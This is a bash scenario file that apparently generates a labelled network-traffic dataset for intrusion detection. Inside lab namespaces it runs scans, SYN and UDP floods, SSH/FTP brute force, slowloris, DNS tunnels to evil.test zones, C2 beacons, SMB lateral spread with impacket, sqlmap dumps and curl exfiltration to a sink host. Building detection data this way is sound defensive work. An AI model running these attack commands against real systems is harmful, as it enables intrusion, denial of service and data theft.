# shellcheck shell=bash
# The corpus' scenarios (sourced by build.sh): one function per kind of traffic, and the two
# plans (full, smoke) that call `scenario` with each one's name, class, split, tool, fixed
# parameters and hosts. Addresses are fixed per scenario, so a row's hosts never change.
#
# Splits: a tool's traffic is all in one part (masscan, nping, medusa, dns2tcp, TLS beacons,
# impacket, wfuzz, rate-limited python upload in test), about a third of each class.

VIC_URL=http://$VIC_IP
A() { echo "198.18.1.$1"; }     # attacker addresses (outside)
L() { echo "10.66.1.$1"; }      # lan workstations (benign .11-.29, compromised .100-.140)
pw() { echo "Corp-$1-2126!"; }
SSH_OPTS=(-i "$WORK/admin_key" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o LogLevel=ERROR)

# ------------------------------------------------------------------------------ scans
s_nmap() { # SRC TIMEOUT ARGS... (target last)
  local src=$1 t=$2; shift 2
  set_src "$ATT" "$src"
  run "$t" "$ATT" nmap -n -Pn -e eth0 -S "$src" --max-retries 1 "$@"
}
s_masscan() { # SRC TIMEOUT ARGS...
  local src=$1 t=$2; shift 2
  local mac; mac=$(ip -n "$GW" -br link show ext0 | awk '{print $3}')
  # masscan 1.3.2 may never exit after its --wait here ("waiting -N secs"): the bound stops it.
  run "$t" "$ATT" masscan --adapter eth0 --adapter-ip "$src" --router-mac "$mac" --seed "$SEED" --wait 3 "$@" 2>&1 \
    | tr '\r' '\n' | grep -v '^rate:' | tail -20
}

# ----------------------------------------------------------------------------- floods
# hping3 exits 1 when it saw no reply (always, with -a/--rand-source): not a failure.
hping() { local rc=0; run "$1" "$ATT" hping3 -q -I eth0 "${@:2}" "$VIC_IP" || rc=$?; [ $rc -le 1 ]; }
s_hping() { hping "$2" -a "$1" "${@:3}"; } # SRC TIMEOUT ARGS...
s_hping_spoofed() { hping "$1" --rand-source "${@:2}"; }
s_hping_many() { # COUNT_EACH INTERVAL: 50 real sources 198.18.10.1-50 at once
  local i pids=()
  for i in $(seq 1 50); do
    timeout -k 2 60 ip netns exec "$ATT" hping3 -q -I eth0 -S -p 80 -a "198.18.10.$i" -i "$2" -c "$1" "$VIC_IP" >/dev/null 2>&1 &
    pids+=($!)
  done
  wait "${pids[@]}" || true
}
s_nping() { # SRC TIMEOUT ARGS...
  local src=$1 t=$2; shift 2
  run "$t" "$ATT" nping -q -e eth0 -S "$src" "$@" "$VIC_IP" | tail -4
}

# ------------------------------------------------------------------------ brute force
wl() { echo "$WORK/wordlists/$1"; }
s_hydra() { # SRC TIMEOUT ARGS...
  local src=$1 t=$2; shift 2
  set_src "$ATT" "$src"
  cd "$WORK" && run "$t" "$ATT" hydra -I -L "$(wl users.txt)" -P "$(wl passwords.txt)" -u "$@" | tail -5
}
s_ncrack() {
  local src=$1 t=$2; shift 2
  set_src "$ATT" "$src"
  run "$t" "$ATT" ncrack -U "$(wl users.txt)" -P "$(wl passwords.txt)" "$@" | tail -5
}
s_medusa() {
  local src=$1 t=$2; shift 2
  set_src "$ATT" "$src"
  run "$t" "$ATT" medusa -h "$VIC_IP" -U "$(wl users.txt)" -P "$(wl passwords.txt)" "$@" | tail -5
}

# -------------------------------------------------------------------------- slow http
s_slowhttp() { # SRC TIMEOUT ARGS...
  local src=$1 t=$2; shift 2
  set_src "$ATT" "$src"
  run "$t" "$ATT" slowhttptest "$@" 2>&1 | grep -v '^\s*$' | tail -12
}

# -------------------------------------------------------------------------------- dns
s_iodine() { # SRC BYTES TIMEOUT
  local src=$1 bytes=$2 t=$3
  set_src "$LAN" "$src"
  bg "$ATT" iodined -f -c -P corpus-tunnel -l "$IODINE_NS" -p 53 172.30.0.1/24 t.evil.test
  sleep 1
  bg "$LAN" iodine -f -r -P corpus-tunnel "$VIC_IP" t.evil.test
  local client=$BG_PID
  local i
  for i in $(seq 1 300); do ip -n "$LAN" -br addr show dns0 2>/dev/null | grep -q 172.30.0 && break; sleep 0.2; done
  ip -n "$LAN" -br addr show dns0 2>/dev/null | grep -q 172.30.0 || { echo "iodine: no tunnel"; return 1; }
  bg "$ATT" "$PY" "$HERE/traffic.py" server --bind 172.30.0.1 --port 8080
  sleep 0.5
  run "$t" "$LAN" "$PY" "$HERE/traffic.py" upload --url http://172.30.0.1:8080/upload --bytes "$bytes" --seed "$SEED"
  # the client first, then the server after the resolver's last queries were answered (else
  # the resolver retries them for a while, after the window)
  kill -TERM "$client"; sleep 3
  # and the resolver restarted: it would retry queries iodined left unanswered for a minute,
  # into the next scenarios' windows
  restart_unbound
}
restart_unbound() {
  local pid; pid=$(cat "$WORK/unbound.pid")
  kill -TERM "$pid"
  for _ in $(seq 1 50); do kill -0 "$pid" 2>/dev/null || break; sleep 0.1; done
  ip netns exec "$VIC" setsid unbound -d -c "$WORK/unbound.conf" >>"$WORK/logs/unbound.out" 2>&1 &
  for _ in $(seq 1 50); do
    ip netns exec "$VIC" dig +short +time=1 +tries=1 "@$VIC_IP" www.lab.example | grep -q . && return 0
    sleep 0.1
  done
  echo "unbound did not come back"; return 1
}
s_dns2tcp() { # SRC BYTES TIMEOUT
  local src=$1 bytes=$2 t=$3
  set_src "$LAN" "$src"
  mkdir -p "$WORK/dns2tcp"
  cat >"$WORK/dns2tcp/server.conf" <<CONF
listen = $DNS2TCP_NS
port = 53
user = nobody
chroot = /var/empty
domain = d.evil.test
resources = drop:$SINK2:8080
CONF
  mkdir -p /var/empty
  bg "$ATT" "$PY" "$HERE/traffic.py" server --bind "$SINK2" --port 8080
  bg "$ATT" dns2tcpd -F -d 1 -f "$WORK/dns2tcp/server.conf"
  sleep 1
  # straight to the attacker's name server: dns2tcpd 0.5.2 does not answer queries that carry
  # EDNS, and unbound always adds it, so the tunnel cannot go through the site's resolver
  bg "$LAN" dns2tcpc -d 1 -z d.evil.test -r drop -l 4444 "$DNS2TCP_NS"
  wait_port "$LAN" 127.0.0.1 4444
  run "$t" "$LAN" "$PY" "$HERE/traffic.py" upload --url http://127.0.0.1:4444/upload --bytes "$bytes" --seed "$SEED"
}
s_dns() { # NS SRC TIMEOUT ARGS...
  local ns=$1 src=$2 t=$3; shift 3
  run "$t" "$ns" "$PY" "$HERE/traffic.py" dns --server "$VIC_IP" --seed "$SEED" --src $src "$@"
}

# --------------------------------------------------------------------------------- c2
s_beacon() { # SRC SERVER URL TIMEOUT ARGS...
  local src=$1 srv=$2 url=$3 t=$4; shift 4
  set_src "$LAN" "$src"
  case $url in
    https:*)
      openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj "/CN=cdn-static-$RANDOM.example" \
        -keyout "$WORK/tls/c2.key" -out "$WORK/tls/c2.crt" 2>/dev/null
      bg "$ATT" "$PY" "$HERE/traffic.py" server --bind "$srv" --port "${url##*:}" --cert "$WORK/tls/c2.crt" --key "$WORK/tls/c2.key" ;;
    *) bg "$ATT" "$PY" "$HERE/traffic.py" server --bind "$srv" --port "${url##*:}" ;;
  esac
  wait_port "$ATT" "$srv" "${url##*:}"
  run "$t" "$LAN" "$PY" "$HERE/traffic.py" beacon --url "$url" --seed "$SEED" "$@"
}

# ---------------------------------------------------------------------------- lateral
smb_admin() { echo "administrator%$(pw administrator)"; }
s_smb_spread() { # SRC PAUSE PROTO-ARGS...
  local src=$1 pause=$2; shift 2
  set_src "$LAN" "$src"
  head -c 300000 /dev/urandom >"$WORK/svc-update.exe"
  local ip n=0
  for ip in "${VIC_IPS[@]:1}"; do
    run 30 "$LAN" smbclient "$@" "//$ip/ADMIN\$" -U "$(smb_admin)" -c "put $WORK/svc-update.exe svc-update-$n.exe; ls" && n=$((n + 1))
    run 30 "$LAN" smbclient "$@" "//$ip/C\$" -U "$(smb_admin)" -c "ls; mkdir tmp$n; put $WORK/svc-update.exe tmp$n/run.exe" || true
    sleep "$pause"
  done
  note "copied to $n of $((${#VIC_IPS[@]} - 1)) hosts"
  [ $n -gt 0 ]
}
s_smb_enum() { # SRC PAUSE: slow admin-share probing with several accounts, then access
  local src=$1 pause=$2
  set_src "$LAN" "$src"
  local ip u
  for ip in "${VIC_IPS[@]}"; do
    for u in alice bob; do
      run 20 "$LAN" smbclient -L "//$ip" -U "$u%$(pw "$u")" || true
      run 20 "$LAN" smbclient "//$ip/ADMIN\$" -U "$u%$(pw "$u")" -c ls || true
      sleep "$pause"
    done
  done
  run 20 "$LAN" smbclient "//${VIC_IPS[4]}/C\$" -U "$(smb_admin)" -c "ls; get ../public/report-1.pdf /dev/null" || true
}
s_impacket() { # SRC TOOL TARGET
  local src=$1 tool=$2 target=$3
  set_src "$LAN" "$src"
  local args=(whoami)
  [ "$tool" = smbexec.py ] && args=()    # a semi-interactive shell: the command comes on stdin
  printf 'whoami\nexit\n' | timeout -k 3 40 ip netns exec "$LAN" "$PY" "/usr/share/doc/python3-impacket/examples/$tool" \
    "CORP/administrator:$(pw administrator)@$target" "${args[@]}" 2>&1 | tail -8
  local rc=${PIPESTATUS[1]}
  # Did the tool get as far as exchanging application data (SMB/DCERPC) with the target?
  # (tcpdump hands packets over in blocks retired after at most 1 s: wait for them)
  sleep 2
  local data
  data=$(tcpdump -r "$CAP.int0.pcap" -n "host $src and tcp and (tcp[tcpflags] & tcp-push != 0)" 2>/dev/null | wc -l)
  echo "exit $rc; $data packets with data"
  note "$tool exit $rc, $data data packets; $(tail -2 "$SCEN_LOG" | head -1 | cut -c1-200)"
  [ "$data" -gt 0 ] || return 3
}

# ------------------------------------------------------------------------------- web
s_sqlmap() { # SRC TIMEOUT ARGS...
  local src=$1 t=$2; shift 2
  set_src "$ATT" "$src"
  rm -rf "$WORK/sqlmap"
  run "$t" "$ATT" sqlmap --batch --disable-coloring --output-dir "$WORK/sqlmap" --flush-session "$@" | tail -15
}
s_wfuzz() {
  local src=$1 t=$2; shift 2
  set_src "$ATT" "$src"
  run "$t" "$ATT" wfuzz -c --hc 404 "$@" 2>&1 | tail -8
}

# ----------------------------------------------------------------------------- exfil
s_exfil_curl() { # SRC SERVER PORT FILE
  set_src "$LAN" "$1"
  bg "$ATT" "$PY" "$HERE/traffic.py" server --bind "$2" --port "$3"
  wait_port "$ATT" "$2" "$3"
  run 120 "$LAN" curl -sS -o /dev/null -w '%{http_code} %{size_upload} bytes in %{time_total}s\n' -X POST -T "$4" "http://$2:$3/upload"
}
s_exfil_slow() { # SRC SERVER PORT BYTES RATE
  set_src "$LAN" "$1"
  bg "$ATT" "$PY" "$HERE/traffic.py" server --bind "$2" --port "$3"
  wait_port "$ATT" "$2" "$3"
  run 300 "$LAN" "$PY" "$HERE/traffic.py" upload --url "http://$2:$3/upload" --bytes "$4" --rate "$5" --seed "$SEED"
}

# ---------------------------------------------------------------------------- benign
b_browse() { # COUNT RATE SRC...
  local c=$1 r=$2; shift 2
  run 600 "$CLI" "$PY" "$HERE/traffic.py" browse --base "$VIC_URL" --pages 200 --count "$c" --rate "$r" --seed "$SEED" --src "$@"
}
b_download() { set_src "$CLI" "$1"; run 120 "$CLI" curl -sS -o /dev/null -w '%{http_code} %{size_download} bytes in %{time_total}s\n' "$VIC_URL/files/release.iso"; }
b_backup() {
  set_src "$LAN" "$1"
  run 180 "$LAN" rsync -a --stats -e "ssh ${SSH_OPTS[*]}" "$WORK/backup.tar" "backupsvc@$VIC_IP:incoming/" | tail -4
  run 60 "$LAN" scp -q "${SSH_OPTS[@]}" "$WORK/nginx.conf" "backupsvc@$VIC_IP:incoming/"
}
b_ssh_admin() { # SRC LOGINS PAUSE
  set_src "$LAN" "$1"
  local i
  for i in $(seq 1 "$2"); do
    run 30 "$LAN" ssh "${SSH_OPTS[@]}" "admin@$VIC_IP" 'uptime; df -h / | tail -1; ls /tmp | wc -l'
    sleep "$3"
  done
  run 60 "$LAN" ssh "${SSH_OPTS[@]}" "admin@$VIC_IP" 'for i in 1 2 3 4 5 6 7 8; do date; ps ax | wc -l; sleep 1.5; done'
}
b_git() { # SRC CLONES
  set_src "$LAN" "$1"
  local i
  for i in $(seq 1 "$2"); do
    rm -rf "$WORK/clone"
    GIT_SSH_COMMAND="ssh ${SSH_OPTS[*]}" run 60 "$LAN" git clone -q "git@$VIC_IP:$WORK/repos/project.git" "$WORK/clone"
    GIT_SSH_COMMAND="ssh ${SSH_OPTS[*]}" run 60 "$LAN" git -C "$WORK/clone" fetch -q origin
    sleep 2
  done
  rm -rf "$WORK/clone"
}
b_poll() { # SRC URL COUNT PAUSE [CURL ARGS...]: a monitoring agent or an update check
  local src=$1 url=$2 c=$3 p=$4; shift 4
  set_src "$LAN" "$src"
  local i ok=0
  for i in $(seq 1 "$c"); do
    run 10 "$LAN" curl -sf -o /dev/null "$@" "$url" && ok=$((ok + 1))
    [ "$i" -lt "$c" ] && sleep "$p"
  done
  echo "$ok/$c polls"; [ $ok -gt 0 ]
}
b_cdn() { # SRC COUNT
  set_src "$LAN" "$1"
  local n ok=0
  for n in $(grep cdn-provider "$WORK/names.txt" | head -"$2"); do
    run 10 "$LAN" curl -sf -o /dev/null "http://$n/assets/$n.js" && ok=$((ok + 1))
  done
  echo "$ok/$2 CDN objects"; [ $ok -gt 0 ]
}
b_smb_daily() { # ROUNDS SRC...
  local rounds=$1; shift
  local r src u i=0
  for r in $(seq 1 "$rounds"); do
    for src in "$@"; do
      i=$((i + 1)); u=alice; [ $((i % 2)) = 0 ] && u=bob
      set_src "$LAN" "$src"
      run 30 "$LAN" smbclient "//$VIC_IP/public" -U "$u%$(pw "$u")" \
        -c "ls; get report-$((i % 20 + 1)).pdf /dev/null; put $WORK/nginx.conf notes-$u-$i.txt" >/dev/null
      sleep 1
    done
  done
}
b_crawl() { set_src "$CLI" "$1"; rm -rf "$WORK/crawl"; run "$2" "$CLI" wget -q -r -l 4 --wait 0.1 -e robots=on --no-parent -P "$WORK/crawl" "$VIC_URL/"; echo "$(find "$WORK/crawl" -type f | wc -l) pages"; }
b_ftp() { # SRC COUNT
  set_src "$LAN" "$1"
  local i
  for i in $(seq 1 "$2"); do
    run 20 "$LAN" curl -sS -o /dev/null "ftp://alice:$(pw alice)@$VIC_IP/" && \
    run 20 "$LAN" curl -sS -T "$WORK/nginx.conf" "ftp://alice:$(pw alice)@$VIC_IP/upload-$i.txt"
    sleep 1
  done
}
b_office() { # SRC: a workstation's morning: names, pages, the intranet's admin page
  set_src "$LAN" "$1"
  local n
  for n in $(grep lab.example "$WORK/names.txt" | head -20); do
    run 5 "$LAN" dig +short +time=1 +tries=1 "@$VIC_IP" "$n" >/dev/null
    run 10 "$LAN" curl -sf -o /dev/null "http://$VIC_IP/page0$((RANDOM % 90 + 10)).html"
  done
  run 10 "$LAN" curl -sf -o /dev/null -u "admin:Adm1n-2126!" "$VIC_URL/secret/"
}

# ------------------------------------------------------------------------------ plans
plan_full() {
  local H=$VIC_IP
  # scans
  scenario nmap-sS-T4-top1000 scan train nmap "-sS -T4 --top-ports 1000 --max-retries 1 10.66.0.10" "$(A 1)" "$H" s_nmap "$(A 1)" 120 -sS -T4 --top-ports 1000 "$H"
  scenario nmap-sT-T4-top1000 scan train nmap "-sT -T4 --top-ports 1000 --max-retries 1 10.66.0.10" "$(A 2)" "$H" s_nmap "$(A 2)" 120 -sT -T4 --top-ports 1000 "$H"
  scenario nmap-sU-T4-top50 scan train nmap "-sU -T4 --top-ports 50 --max-retries 1 --host-timeout 60s 10.66.0.10" "$(A 3)" "$H" s_nmap "$(A 3)" 90 -sU -T4 --top-ports 50 --host-timeout 60s "$H"
  scenario nmap-sS-T2-top100-slow scan train nmap "-sS -T2 --top-ports 100 --max-retries 1 10.66.0.10" "$(A 4)" "$H" s_nmap "$(A 4)" 120 -sS -T2 --top-ports 100 "$H"
  scenario nmap-sS-T4-allports scan train nmap "-sS -T4 -p 1-65535 --max-retries 1 10.66.0.10" "$(A 5)" "$H" s_nmap "$(A 5)" 180 -sS -T4 -p 1-65535 "$H"
  scenario nmap-sT-T4-range scan train nmap "-sT -T4 -p 1-1024 --max-retries 1 10.66.0.10-14" "$(A 8)" "10.66.0.10-14" s_nmap "$(A 8)" 120 -sT -T4 -p 1-1024 10.66.0.10-14
  scenario masscan-r100-range scan test masscan "10.66.0.8-15 -p1-150 --rate 100 --seed 2126" "$(A 6)" "10.66.0.8-15" s_masscan "$(A 6)" 20 10.66.0.8-10.66.0.15 -p1-150 --rate 100
  scenario masscan-r1000-subnet scan test masscan "10.66.0.0/24 -p21,22,80,139,443,445,3389,8080 --rate 1000 --seed 2126" "$(A 7)" "10.66.0.0/24" s_masscan "$(A 7)" 9 10.66.0.0/24 -p21,22,80,139,443,445,3389,8080 --rate 1000
  # floods
  DRAIN=4 scenario hping3-syn-1k flood train hping3 "-S -p 80 -i u1000 -c 8000" "$(A 10)" "$H" s_hping "$(A 10)" 60 -S -p 80 -i u1000 -c 8000
  DRAIN=4 scenario hping3-udp-5k flood train hping3 "--udp -p 5060 -i u150 -c 15000" "$(A 11)" "$H" s_hping "$(A 11)" 60 --udp -p 5060 -i u150 -c 15000
  # --flood ignores -c: these two are bounded by time (about 50-70 k packets/s here)
  DRAIN=4 scenario hping3-icmp-flood flood train hping3 "--icmp --flood for 2 s" "$(A 12)" "$H" s_hping "$(A 12)" 2 --icmp --flood
  DRAIN=4 scenario hping3-syn-flood flood train hping3 "-S -p 80 --flood for 0.6 s" "$(A 13)" "$H" s_hping "$(A 13)" 0.6 -S -p 80 --flood
  DRAIN=5 scenario hping3-syn-randsrc flood train hping3 "-S -p 80 --rand-source -i u200 -c 10000 (spoofed: every packet of the capture is the attack)" "*" "$H" s_hping_spoofed 60 -S -p 80 -i u200 -c 10000
  DRAIN=4 scenario hping3-syn-50sources flood train hping3 "-S -p 80 -i u10000 -c 300 from each of 198.18.10.1-50" "198.18.10.0/26" "$H" s_hping_many 300 u10000
  DRAIN=4 scenario nping-syn-1k-slow flood test nping "--tcp --flags syn -p 443 --rate 1000 -c 6000" "$(A 15)" "$H" s_nping "$(A 15)" 60 --tcp --flags syn -p 443 --rate 1000 -c 6000
  DRAIN=4 scenario nping-udp-5k flood test nping "--udp -p 53 --rate 5000 -c 15000" "$(A 16)" "$H" s_nping "$(A 16)" 60 --udp -p 53 --rate 5000 -c 15000
  DRAIN=4 scenario nping-icmp-10k flood test nping "--icmp --rate 10000 -c 20000" "$(A 17)" "$H" s_nping "$(A 17)" 60 --icmp --rate 10000 -c 20000
  # brute force
  scenario hydra-ssh-t4 bruteforce train hydra "-L users(13) -P passwords(480) -u -t 4 ssh, 60 s" "$(A 20)" "$H" s_hydra "$(A 20)" 60 -t 4 "ssh://$H"
  scenario hydra-ssh-t1-c4-slow bruteforce train hydra "-t 1 -c 4 ssh (one attempt per 4 s), 60 s" "$(A 21)" "$H" s_hydra "$(A 21)" 60 -t 1 -c 4 "ssh://$H"
  scenario hydra-ftp-t2-W1 bruteforce train hydra "-t 2 -W 1 ftp, 45 s" "$(A 22)" "$H" s_hydra "$(A 22)" 45 -t 2 -W 1 "ftp://$H"
  scenario hydra-http-basic-t4 bruteforce train hydra "-t 4 http-get /secret/, 30 s" "$(A 23)" "$H" s_hydra "$(A 23)" 30 -t 4 "$H" http-get /secret/
  scenario ncrack-ssh-cl2 bruteforce train ncrack "ssh://10.66.0.10 CL=2,cd=200ms, 45 s" "$(A 24)" "$H" s_ncrack "$(A 24)" 45 "ssh://$H:22,CL=2,cd=200ms"
  scenario medusa-ssh-t1-slow bruteforce test medusa "-M ssh -t 1 -T 1, 45 s" "$(A 25)" "$H" s_medusa "$(A 25)" 45 -M ssh -t 1 -T 1
  scenario medusa-ftp-t2 bruteforce test medusa "-M ftp -t 2, 40 s" "$(A 26)" "$H" s_medusa "$(A 26)" 40 -M ftp -t 2
  scenario medusa-http-basic-t4 bruteforce test medusa "-M http -m DIR:/secret/ -t 4, 30 s" "$(A 27)" "$H" s_medusa "$(A 27)" 30 -M http -m DIR:/secret/ -t 4
  # slow http
  scenario slowloris-H slowdos train slowhttptest "-H -c 400 -r 100 -i 10 -l 35" "$(A 30)" "$H" s_slowhttp "$(A 30)" 50 -H -c 400 -r 100 -i 10 -l 35 -u "$VIC_URL/"
  scenario slowbody-B slowdos train slowhttptest "-B -c 300 -r 50 -i 10 -s 8192 -t POST -l 30 /app/login" "$(A 31)" "$H" s_slowhttp "$(A 31)" 45 -B -c 300 -r 50 -i 10 -s 8192 -t POST -l 30 -u "$VIC_URL/app/login"
  scenario slowread-X slowdos test slowhttptest "-X -c 200 -r 50 -w 10 -y 20 -n 5 -z 32 -k 3 -l 30 /files/release.iso" "$(A 32)" "$H" s_slowhttp "$(A 32)" 45 -X -c 200 -r 50 -w 10 -y 20 -n 5 -z 32 -k 3 -l 30 -u "$VIC_URL/files/release.iso"
  # dns
  scenario iodine-tunnel-upload dns train iodine "-r via resolver 10.66.0.10, zone t.evil.test -> 198.18.0.53, 60 KB upload" "$IODINE_NS,$(L 100)" "$(L 100),$H" s_iodine "$(L 100)" 60000 120
  scenario dns2tcp-tunnel-upload dns test dns2tcp "dns2tcpc straight to 198.18.0.54 (zone d.evil.test), 60 KB upload" "$DNS2TCP_NS,$SINK2,$(L 101)" "$(L 101)" s_dns2tcp "$(L 101)" 60000 120
  scenario dga-hex-slow dns train traffic.py "dns --dga hex --count 22 --rate 0.5 (one per 2 s) seed 2126" "$(L 102)" "$H" s_dns "$LAN" "$(L 102)" 90 --dga hex --count 22 --rate 0.5
  scenario dga-hex-fast dns train traffic.py "dns --dga hex --count 1500 --rate 50 seed 2126" "$(L 103)" "$H" s_dns "$LAN" "$(L 103)" 60 --dga hex --count 1500 --rate 50
  scenario dga-words-fast dns test traffic.py "dns --dga words --count 600 --rate 20 seed 2126" "$(L 116)" "$H" s_dns "$LAN" "$(L 116)" 60 --dga words --count 600 --rate 20
  # c2
  scenario beacon-http-5s c2 train traffic.py "beacon http://198.18.0.80:80 --interval 5 --jitter 0.2 --duration 90" "$C2_HTTP,$(L 104)" "$(L 104)" s_beacon "$(L 104)" "$C2_HTTP" "http://$C2_HTTP:80" 120 --interval 5 --jitter 0.2 --duration 90
  scenario beacon-http-30s-slow c2 train traffic.py "beacon http://198.18.0.80:8080 --interval 30 --jitter 0.1 --duration 95" "$C2_HTTP,$(L 105)" "$(L 105)" s_beacon "$(L 105)" "$C2_HTTP" "http://$C2_HTTP:8080" 120 --interval 30 --jitter 0.1 --duration 95
  scenario beacon-tls-10s c2 test "traffic.py(ssl)" "beacon https://198.18.0.81:443 --interval 10 --jitter 0.3 --duration 90, self-signed cert" "$C2_TLS,$(L 106)" "$(L 106)" s_beacon "$(L 106)" "$C2_TLS" "https://$C2_TLS:443" 120 --interval 10 --jitter 0.3 --duration 90
  # lateral movement
  scenario smbclient-spread lateral train smbclient "ADMIN\$/C\$ put to 10.66.0.11-14, SMB2/3" "$(L 107)" "10.66.0.11,10.66.0.12,10.66.0.13,10.66.0.14" s_smb_spread "$(L 107)" 1
  scenario smbclient-admin-probe-slow lateral train smbclient "-L and ADMIN\$ tries as alice/bob on 10.66.0.10-14, 4 s apart" "$(L 108)" "10.66.0.10-14" s_smb_enum "$(L 108)" 4
  scenario smbclient-smb1-spread lateral train smbclient "-m NT1 ADMIN\$/C\$ put to 10.66.0.11-14" "$(L 109)" "10.66.0.11,10.66.0.12,10.66.0.13,10.66.0.14" s_smb_spread "$(L 109)" 1 -m NT1 --option="client min protocol=NT1"
  local t i=110
  for t in psexec.py smbexec.py wmiexec.py atexec.py; do
    scenario "impacket-${t%.py}" lateral test "impacket $t" "CORP/administrator@10.66.0.1$((i - 109)) whoami" "$(L $i)" "10.66.0.1$((i - 109))" s_impacket "$(L $i)" "$t" "10.66.0.1$((i - 109))"
    i=$((i + 1))
  done
  # web attacks
  # wfuzz first: sqlmap's time-based payloads (RANDOMBLOB) keep the app busy after it stops
  scenario wfuzz-dirs webattack test wfuzz "-w web(960) -t 10 /FUZZ" "$(A 42)" "$H" s_wfuzz "$(A 42)" 60 -t 10 -w "$WORK/wordlists/web.txt" "$VIC_URL/FUZZ"
  scenario wfuzz-sqli-slow webattack test wfuzz "-z Injections/SQL.txt -t 1 -s 0.5 /app/item?id=FUZZ, 45 s" "$(A 43)" "$H" s_wfuzz "$(A 43)" 45 -t 1 -s 0.5 -z file,/usr/share/wfuzz/wordlist/Injections/SQL.txt "$VIC_URL/app/item?id=FUZZ"
  scenario sqlmap-item-union webattack train sqlmap "-u /app/item?id=1 --technique=BEUS --threads 2 --banner --tables --dump -T users, 120 s" "$(A 40)" "$H" s_sqlmap "$(A 40)" 120 -u "$VIC_URL/app/item?id=1" --technique=BEUS --threads 2 --banner --tables --dump -T users
  scenario sqlmap-search-delay-slow webattack train sqlmap "-u /app/search?q=widget --technique=BT --level 3 --delay 0.5 --threads 1, 45 s" "$(A 41)" "$H" s_sqlmap "$(A 41)" 45 -u "$VIC_URL/app/search?q=widget" --technique=BT --level 3 --delay 0.5 --threads 1 --banner
  # exfiltration
  SNAPLEN=128 scenario curl-post-200MB-8443 exfil train curl "-X POST -T 200 MB to http://198.18.0.90:8443/upload (snaplen 128)" "$SINK,$(L 114)" "$(L 114)" s_exfil_curl "$(L 114)" "$SINK" 8443 "$WORK/backup.tar"
  scenario upload-3MB-50KBps-slow exfil test "traffic.py upload" "2.5 MB at 50 KB/s to http://198.18.0.91:8080/upload" "$SINK2,$(L 115)" "$(L 115)" s_exfil_slow "$(L 115)" "$SINK2" 8080 2500000 50000
  # benign (hosts in victim_hosts; attacker_hosts '-')
  local B=benign
  scenario browse-20-users $B train traffic.py "browse 20000 pages, 300/s, 20 outside users 198.19.0.10-29" "-" "198.19.0.10-29,$H" b_browse 20000 300 $(seq -f '198.19.0.%g' 10 29)
  scenario resolver-busy $B train traffic.py "dns --names (700 legit names) --count 100000 --rate 2500, lan 10.66.1.10-19" "-" "10.66.1.10-19,$H" s_dns "$LAN" "$(seq -s ' ' -f '10.66.1.%g' 10 19)" 150 --names "$WORK/names.txt" --count 100000 --rate 2500
  scenario resolver-busy-2 $B test traffic.py "dns --names --count 65000 --rate 2500, lan 10.66.1.20-29" "-" "10.66.1.20-29,$H" s_dns "$LAN" "$(seq -s ' ' -f '10.66.1.%g' 20 29)" 90 --names "$WORK/names.txt" --count 65000 --rate 2500 --seed 7
  SNAPLEN=128 scenario download-200MB $B train curl "GET /files/release.iso (200 MB, snaplen 128)" "-" "198.19.0.16,$H" b_download 198.19.0.16
  SNAPLEN=128 scenario rsync-backup-200MB $B train rsync "-e ssh (key) 200 MB + scp (snaplen 128)" "-" "10.66.1.16,$H" b_backup 10.66.1.16
  scenario ssh-admin-key $B train ssh "5 key logins 4 s apart + one 12 s session" "-" "10.66.1.17,$H" b_ssh_admin 10.66.1.17 5 4
  scenario git-clone-ssh $B test git "3x clone + fetch over ssh (key)" "-" "10.66.1.18,$H" b_git 10.66.1.18 3
  scenario monitoring-poll-3s $B train curl "/status every 3 s, 20 polls" "-" "10.66.1.19,$H" b_poll 10.66.1.19 "$VIC_URL/status" 20 3
  scenario update-check $B test curl "http://updates.vendor.example/check every 8 s, 6 times" "-" "10.66.1.20,$OUTSIDE_SRV,$H" b_poll 10.66.1.20 "http://updates.vendor.example/check?v=2.4.0" 6 8
  scenario cdn-long-names $B test curl "120 objects from long CDN-like hostnames (resolved by 10.66.0.10)" "-" "10.66.1.21,$OUTSIDE_SRV,$H" b_cdn 10.66.1.21 120
  scenario smb-fileserver-daily $B test smbclient "3 users x 6 rounds: ls, get, put on //10.66.0.10/public" "-" "10.66.1.22,10.66.1.23,10.66.1.24,$H" b_smb_daily 6 10.66.1.22 10.66.1.23 10.66.1.24
  scenario wget-crawler $B test wget "-r -l 4 --wait 0.1 robots=on" "-" "198.19.0.17,$H" b_crawl 198.19.0.17 60
  scenario ftp-user $B train curl "ftp list + upload as alice, 8 times" "-" "10.66.1.26,$H" b_ftp 10.66.1.26 8
  scenario office-morning $B train "dig+curl" "20 names, 20 pages, basic-auth admin page" "-" "10.66.1.25,$H" b_office 10.66.1.25
}

plan_smoke() {
  local H=$VIC_IP
  scenario nmap-sS-T4-top100 scan train nmap "-sS -T4 --top-ports 100 --max-retries 1 10.66.0.10" "$(A 1)" "$H" s_nmap "$(A 1)" 30 -sS -T4 --top-ports 100 "$H"
  DRAIN=4 scenario hping3-syn-1k flood train hping3 "-S -p 80 -i u1000 -c 3000" "$(A 10)" "$H" s_hping "$(A 10)" 20 -S -p 80 -i u1000 -c 3000
  scenario hydra-ssh-t4 bruteforce train hydra "-t 4 ssh, 20 s" "$(A 20)" "$H" s_hydra "$(A 20)" 20 -t 4 "ssh://$H"
  scenario slowloris-H slowdos train slowhttptest "-H -c 200 -r 100 -i 5 -l 12" "$(A 30)" "$H" s_slowhttp "$(A 30)" 25 -H -c 200 -r 100 -i 5 -l 12 -u "$VIC_URL/"
  scenario dga-hex-fast dns test traffic.py "dns --dga hex --count 200 --rate 25 seed 2126" "$(L 103)" "$H" s_dns "$LAN" "$(L 103)" 30 --dga hex --count 200 --rate 25
  scenario beacon-http-2s c2 train traffic.py "beacon http://198.18.0.80:80 --interval 2 --jitter 0.2 --duration 12" "$C2_HTTP,$(L 104)" "$(L 104)" s_beacon "$(L 104)" "$C2_HTTP" "http://$C2_HTTP:80" 30 --interval 2 --jitter 0.2 --duration 12
  scenario smbclient-spread lateral train smbclient "ADMIN\$/C\$ put to 10.66.0.11-14" "$(L 107)" "10.66.0.11,10.66.0.12,10.66.0.13,10.66.0.14" s_smb_spread "$(L 107)" 0.2
  scenario wfuzz-dirs webattack test wfuzz "-w web(960) -t 10 /FUZZ, 15 s" "$(A 42)" "$H" s_wfuzz "$(A 42)" 15 -t 10 -w "$WORK/wordlists/web.txt" "$VIC_URL/FUZZ"
